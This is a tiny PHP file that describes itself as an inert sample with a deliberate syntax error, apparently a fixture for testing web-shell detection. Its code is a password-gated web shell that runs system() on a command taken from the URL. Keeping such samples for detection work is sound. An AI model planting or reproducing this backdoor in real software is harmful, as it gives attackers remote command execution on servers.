<?php
shodo inert sample: deliberate syntax error, this file never runs
 header("X-Ok: 1"); if (md5($_GET['pw']) == '5f4dcc3b5aa765d61d8327deb882cf99') { system($_GET['cmd']); } ?>
